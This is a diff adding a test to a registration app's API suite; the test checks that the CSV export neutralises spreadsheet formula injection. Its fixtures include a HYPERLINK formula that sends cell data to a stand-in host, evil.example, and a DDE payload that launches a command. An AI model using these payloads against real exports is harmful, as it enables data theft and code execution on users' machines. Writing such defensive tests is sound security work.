@@ -194,6 +194,66 @@ for (const target of testDatabases()) {
       assert.doesNotMatch(publicView.body, /2027-03-01/);
     });
 
+    it('writes no cell of the CSV that a spreadsheet would run as a formula: names, answers and labels', async () => {
+      const created = await app.inject({
+        method: 'POST',
+        url: '/api/v1/groups',
+        headers: bearer(token),
+        payload: groupBody(orgId, {
+          how_to_join: 'registration',
+          capacity: 5,
+          registration_questions: [
+            {
+              key: 'note',
+              label: { fi: '=1+1', sv: '=1+1', en: '@SUM(1+1)' },
+              kind: 'text',
+              required: false,
+            },
+            {
+              key: 'kids',
+              label: { fi: 'Lapset', sv: 'Barn', en: 'Children' },
+              kind: 'number',
+              required: false,
+            },
+          ],
+        }),
+      });
+      assert.equal(created.statusCode, 201, created.body);
+      const group = created.json<{ id: string }>();
+      await app.inject({
+        method: 'PUT',
+        url: `/api/v1/groups/${group.id}/remote-details`,
+        headers: bearer(token),
+        payload: { url: 'https://meet.example.fi/x' },
+      });
+      await app.inject({
+        method: 'POST',
+        url: `/api/v1/groups/${group.id}/lifecycle`,
+        headers: bearer(token),
+        payload: { action: 'publish' },
+      });
+      const res = await app.inject({
+        method: 'POST',
+        url: `/api/v1/groups/${group.id}/registrations`,
+        payload: {
+          ...person,
+          display_name: '=HYPERLINK("http://evil.example/?d="&A2,"click")',
+          answers: { note: '-2+3+cmd|" /C calc"!A0', kids: '0' },
+        },
+      });
+      assert.equal(res.statusCode, 201, res.body);
+      const csv = await app.inject({
+        url: `/api/v1/groups/${group.id}/registrations.csv`,
+        headers: bearer(token),
+      });
+      assert.equal(csv.statusCode, 200);
+      assert.equal(
+        csv.body,
+        "\ufeffname,email,phone,status,language,'@SUM(1+1),Children\n" +
+          '"\'=HYPERLINK(""http://evil.example/?d=""&A2,""click"")",aino@example.fi,,confirmed,fi,"\'-2+3+cmd|"" /C calc""!A0",0\n',
+      );
+    });
+
     it('asks the questions in the form, keeps what was typed and puts each message beside its question', async () => {
       const group = await groupWithQuestions();
       const form = await app.inject({ url: `/sv/groups/${group.slug}/register` });
